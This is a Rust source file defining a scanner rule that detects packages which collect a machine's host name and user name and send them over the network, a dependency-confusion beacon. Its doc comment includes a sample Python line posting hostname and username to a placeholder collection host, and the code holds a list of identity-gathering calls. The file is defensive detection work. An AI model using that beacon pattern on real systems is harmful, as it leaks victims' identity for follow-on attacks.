//! # SW-GEN-027: host fingerprint sent out
//!
//! **What it does.** Finds code that collects who and where it is running
//! (`socket.gethostname()`, `getpass.getuser()`, `os.getlogin()`,
//! `platform.node()`, `os.uname()`, `os.hostname()`, `os.userInfo()`,
//! `whoami`) in a file that also talks to the network, at the same
//! stage.
//!
//! **Why is this bad.** This is the beacon of dependency-confusion and
//! reconnaissance packages: install, report the victim's host and user
//! name, and wait for a second stage.
//!
//! **Example.**
//!
//! ```python
//! requests.post("https://collect.example.test", json={"host": socket.gethostname(), "user": getpass.getuser()})
//! ```
//!
//! **False positives.** Telemetry and logging libraries record the host
//! name when called; that is `low`. At install or import time the rule
//! is `high`, and `critical` when two identity facts (host name and user
//! name, say) go out together.

use super::{Context, Emit, Rule, is_network};
use crate::lang::callee_matches;
use crate::model::Severity;

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-027",
    title: "host fingerprint sent out",
    source: include_str!("gen027_host_fingerprint.rs"),
    check,
};

const IDENTITY: &[&str] = &[
    "socket.gethostname",
    "getpass.getuser",
    "os.getlogin",
    "platform.node",
    "platform.uname",
    "os.uname",
    "os.hostname",
    "os.userInfo",
    "os.networkInterfaces",
    "socket.gethostbyname",
    "requests.get.text",
    "os.getcwd",
];

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    for file in cx.code_files() {
        let Some(facts) = &file.facts else { continue };
        let identity: Vec<_> = facts
            .calls
            .iter()
            .filter(|c| IDENTITY.iter().take(9).any(|p| callee_matches(&c.callee, p)))
            .collect();
        let whoami = facts.strings.iter().find(|s| s.value.trim() == "whoami" || s.value.trim() == "hostname");
        if identity.is_empty() && whoami.is_none() {
            continue;
        }
        for send in facts.calls.iter().filter(|c| is_network(&c.callee)) {
            let same_stage = identity.iter().find(|c| c.stage == send.stage);
            let mut kinds: Vec<&str> = identity
                .iter()
                .filter(|c| c.stage == send.stage)
                .map(|c| c.callee.as_str())
                .collect();
            kinds.sort_unstable();
            kinds.dedup();
            let what = match (same_stage, whoami.filter(|w| w.stage == send.stage)) {
                (Some(c), _) => format!("`{}`", c.callee),
                (None, Some(w)) => format!("`{}`", w.value.trim()),
                _ => continue,
            };
            // Host name and user name together, sent as the package
            // installs or loads: a dependency-confusion beacon.
            let severity = match (send.stage.is_automatic(), kinds.len()) {
                (true, n) if n >= 2 => Severity::Critical,
                (true, _) => Severity::High,
                (false, _) => Severity::Low,
            };
            out.finding(
                severity,
                send.stage,
                &file.path,
                Some(send.line),
                format!("collects the host identity ({what}) and talks to the network with `{}`", send.callee),
            );
            break;
        }
    }
}
